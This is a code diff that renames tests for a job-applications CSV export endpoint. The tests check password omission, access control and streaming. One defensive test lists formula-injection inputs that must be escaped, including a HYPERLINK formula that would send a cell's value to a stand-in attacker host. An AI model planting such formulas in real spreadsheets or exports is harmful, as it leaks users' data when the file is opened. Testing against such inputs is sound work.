@@ -6,7 +6,7 @@ import { insertManyApplications } from '#test/many-applications.ts'
 const file = fileApp()
 const path = '/api/applications/export.csv'
 
-/** Reads the text as RFC 4180 has it. */
+/** Parses CSV by RFC 4180. */
 function parse(text: string) {
   const rows: string[][] = [[]]
   for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
@@ -16,7 +16,7 @@ function parse(text: string) {
   return rows.slice(0, -1)
 }
 
-test('the own applications come as a file, the last added first, without passwords', async () => {
+test('the own applications are exported newest first, without passwords', async () => {
   const app = file()
   const { seeker, manager } = await createSignedInTeam(app)
   await createApplicationFor(app, manager, { userId: seeker.id, sitePassword: 'a site password' })
@@ -32,7 +32,7 @@ test('the own applications come as a file, the last added first, without passwor
   expect(headers['content-disposition']).toMatch(/^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/)
   expect(text.startsWith('\uFEFFCompany,Position,Status,')).toBe(true)
   expect(text).not.toMatch(/site password|v1:/)
-  const [, first, second, ...rest] = parse(text)
+  const [, first, second, ...otherRows] = parse(text)
   expect(first?.slice(0, 8)).toEqual([
     own.company,
     own.position,
@@ -44,10 +44,10 @@ test('the own applications come as a file, the last added first, without passwor
     'Two\nlines',
   ])
   expect(second?.slice(0, 3)).toEqual(['Acme', 'Engineer', 'interested'])
-  expect(rest).toEqual([])
+  expect(otherRows).toEqual([])
 })
 
-test('nothing in it is a formula to the program that opens it', async () => {
+test('no cell is a formula for a spreadsheet', async () => {
   const app = file()
   const { seeker } = await createSignedInTeam(app)
   const harmful = ['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '=HYPERLINK("https://evil.example.test?"&A1,"a")']
@@ -64,7 +64,7 @@ test('nothing in it is a formula to the program that opens it', async () => {
   expect(rows.at(-1)?.[0]).toBe("'=1+1")
 })
 
-test('a manager has those of all clients, with their names, or of one; nobody has what is not theirs', async () => {
+test("a manager exports all clients with their names, or one; no one exports other people's", async () => {
   const app = file()
   const { seeker, manager, admin, otherManager, otherSeeker } = await createSignedInTeam(app)
   await createApplicationFor(app, manager, { userId: seeker.id })
@@ -73,9 +73,9 @@ test('a manager has those of all clients, with their names, or of one; nobody ha
   expect(header?.[0]).toBe('\uFEFFClient')
   expect(rows.map((row) => row.slice(0, 2))).toEqual([['Sam Rivera', 'Acme']])
   for (const { calls } of [seeker, manager, admin]) {
-    const [ofOne, ...found] = parse((await calls.get(`${path}?userId=${seeker.id}`)).text)
-    expect(ofOne?.[0]).toBe('\uFEFFCompany')
-    expect(found).toHaveLength(1)
+    const [header, ...rows] = parse((await calls.get(`${path}?userId=${seeker.id}`)).text)
+    expect(header?.[0]).toBe('\uFEFFCompany')
+    expect(rows).toHaveLength(1)
   }
   for (const { calls } of [otherSeeker, otherManager])
     expect((await calls.get(`${path}?userId=${seeker.id}`)).status).toBe(404)
@@ -84,7 +84,7 @@ test('a manager has those of all clients, with their names, or of one; nobody ha
   expect(await app.anonymous.get(path)).toMatchObject({ status: 401, body: { message: 'Unauthorized' } })
 })
 
-test('5,000 are sent in parts, each read when the one before has gone', async () => {
+test('5,000 rows are sent in batches, each read after the one before was sent', async () => {
   const app = file()
   const { seeker } = await createSignedInTeam(app)
   await insertManyApplications(app.pool, seeker.id, 5_000)
